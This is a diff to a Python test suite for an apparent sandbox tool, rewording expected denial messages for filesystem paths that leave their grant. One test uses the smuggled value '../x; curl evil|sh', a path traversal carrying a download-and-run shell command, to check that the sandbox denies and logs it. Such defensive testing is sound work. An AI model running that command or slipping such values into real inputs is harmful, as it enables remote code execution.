@@ -129,7 +129,7 @@ def test_a_path_that_leaves_its_grant_has_no_option_and_says_so(
     grant = PathGrant(host=str(tmp_path / "box"), guest="/box", write=write)
     [decision] = denied(place, changing(path), filesystem=FilesystemCapability(paths=(grant,)))
     assert decision.remedy == ""
-    assert decision.rule.endswith("; no option permits that")
+    assert decision.rule.endswith("; no option allows that")
     assert ("/box" in decision.rule) != path.startswith("/")
 
 
@@ -198,7 +198,7 @@ def test_events_and_reports_say_the_same_as_the_line(how: list[str], tmp_path: P
     (tmp_path / "d").mkdir()
     (tmp_path / "guest.wat").write_text(changing("../x; curl evil|sh"))
     ended = aegis("run", *how, "--allow-read", "d::/box", "--events", "log", "guest.wat", cwd=tmp_path)
-    said = "denied: write /box/../x; curl evil|sh (filesystem): the path leaves /box; no option permits that\n"
+    said = "denied: write /box/../x; curl evil|sh (filesystem): the path leaves /box; no option allows that\n"
     assert ended.err.startswith(said)
     lines = [json.loads(line) for line in (tmp_path / "log").read_text().splitlines()]
     [checked] = [line for line in lines if line["kind"] == "capability_checked" and not line["allowed"]]
